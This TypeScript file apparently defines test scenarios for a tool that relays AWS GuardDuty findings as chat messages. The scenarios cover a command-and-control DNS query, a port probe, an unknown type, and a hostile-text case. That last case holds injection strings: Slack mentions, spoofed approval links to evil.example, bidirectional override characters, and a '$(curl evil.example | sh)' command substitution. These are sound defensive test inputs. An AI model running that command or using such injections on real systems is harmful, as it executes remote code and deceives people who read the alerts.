import { z } from 'zod';
import { HOME_REGION } from '../../world.ts';
import { DATA_INSTANCE, HOSTILE_INSTANCE, instanceId, PROBED_INSTANCE } from '../seed/names.ts';
import { accuseInstance } from './instance-finding.ts';
import { AccountId, defineScenario, FindingId } from './scenario.ts';

function target(instance: { readonly account: string; readonly name: string }) {
  return z.strictObject({
    account: AccountId.default(instance.account),
    instanceId: z.string().default(instanceId(instance.account, instance.name)),
    region: z.string().default(HOME_REGION),
    id: FindingId,
  });
}

/** An instance asks for the name of a known command and control server. */
export const commandAndControl = defineScenario({
  name: 'command-and-control',
  summary:
    'GuardDuty Backdoor:EC2/C&CActivity.B!DNS on an instance of prod-data with two interfaces, two groups and two volumes',
  overrides: target(DATA_INSTANCE),
  run: (organization, options) =>
    accuseInstance(organization, {
      ...options,
      type: 'Backdoor:EC2/C&CActivity.B!DNS',
      severity: 8,
      title: `The EC2 instance ${options.instanceId} is querying a domain name associated with a known Command & Control server.`,
      description: `The EC2 instance ${options.instanceId} is querying a domain name that is associated with a known Command & Control server.`,
      service: {
        resourceRole: 'ACTOR',
        action: {
          actionType: 'DNS_REQUEST',
          dnsRequestAction: { domain: 'c2.example', protocol: 'UDP', blocked: false },
        },
      },
    }),
});

/** Strangers try a port that should not be open. */
export const portProbe = defineScenario({
  name: 'port-probe',
  summary: 'GuardDuty Recon:EC2/PortProbeUnprotectedPort on the bastion of staging-payments',
  overrides: target(PROBED_INSTANCE),
  run: (organization, options) =>
    accuseInstance(organization, {
      ...options,
      type: 'Recon:EC2/PortProbeUnprotectedPort',
      severity: 2,
      title: `Unprotected port on EC2 instance ${options.instanceId} is being probed.`,
      description: `EC2 instance ${options.instanceId} has an unprotected port which is being probed by a known malicious host.`,
      service: {
        action: {
          actionType: 'PORT_PROBE',
          portProbeAction: {
            blocked: false,
            portProbeDetails: [
              {
                localPortDetails: { port: 22, portName: 'SSH' },
                remoteIpDetails: { ipAddressV4: '192.0.2.77', country: { countryName: 'Nowhere' } },
              },
            ],
          },
        },
      },
    }),
});

/** A type nobody has seen: the catch-all must take it. */
export const unknownType = defineScenario({
  name: 'unknown-type',
  summary: 'GuardDuty Impact:EC2/NeverSeenBefore, a type that is in no catalogue',
  overrides: target(DATA_INSTANCE),
  run: (organization, options) =>
    accuseInstance(organization, {
      ...options,
      type: 'Impact:EC2/NeverSeenBefore',
      severity: 5,
      title: `The EC2 instance ${options.instanceId} does something for which there is no name yet.`,
      description: 'A behaviour was observed that matches no known pattern.',
      service: {
        resourceRole: 'ACTOR',
        action: {
          actionType: 'NETWORK_CONNECTION',
          networkConnectionAction: {
            blocked: false,
            connectionDirection: 'OUTBOUND',
            protocol: 'TCP',
            remoteIpDetails: { ipAddressV4: '198.51.100.99' },
          },
        },
      },
    }),
});

/** Names, tags and texts that try to be markup, a mention, a link, code, a command, or text of another direction. */
export const hostileText = defineScenario({
  name: 'hostile-text',
  summary:
    'GuardDuty CryptoCurrency:EC2/BitcoinTool.B!DNS on an instance whose tags, and a title that, try to be markup',
  overrides: target(HOSTILE_INSTANCE),
  run: (organization, options) =>
    accuseInstance(organization, {
      ...options,
      type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS',
      severity: 8,
      title:
        '<!channel> The instance `hostile-tags` is <https://evil.example|Approve> \u202egnitset\u202c *bold* & more',
      description:
        '<@U0ALICE0001> please <https://evil.example/approve|Approve> ```at once``` \u0007\u200b$(curl evil.example | sh) {{constructor}}',
      service: {
        resourceRole: 'ACTOR',
        action: {
          actionType: 'DNS_REQUEST',
          dnsRequestAction: { domain: '<!here>.evil.example', protocol: 'UDP', blocked: false },
        },
      },
    }),
});
